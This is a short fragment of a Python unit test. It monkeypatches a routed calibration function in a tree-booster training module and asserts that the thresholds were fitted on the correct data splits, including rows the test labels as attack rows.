    def calibrate_and_record(scores: Any, labels: Any, trees: Any, route: np.ndarray, *rest: Any) -> Any:
        result = original(scores, labels, trees, route, *rest)
        seen.append((trees.tolist(), route.copy(), result))
        return result

    monkeypatch.setattr(train_module, "calibrate_routed", calibrate_and_record)
    views = fit_views(tiny, TINY)
    bench = tiny.split_mask(CALIB) | tiny.split_mask(THRESHOLDS)
    only = lone_rows(tiny.matrix)
    [(trees, route, thresholds)] = seen
    assert trees == tiny.trees[bench].tolist() and np.array_equal(route, only[bench])
    assert (views.full.thresholds, views.lone.thresholds) == thresholds
    assert route.any() and not route.all() and tiny.split_mask(THRESHOLDS)[bench].any()
    outside = bench & ~only & ~full_view_rows(tiny, only)  # lone-view attack rows the full booster scores
    assert outside.any() and set(tiny.trees[outside].tolist()) <= set(trees)
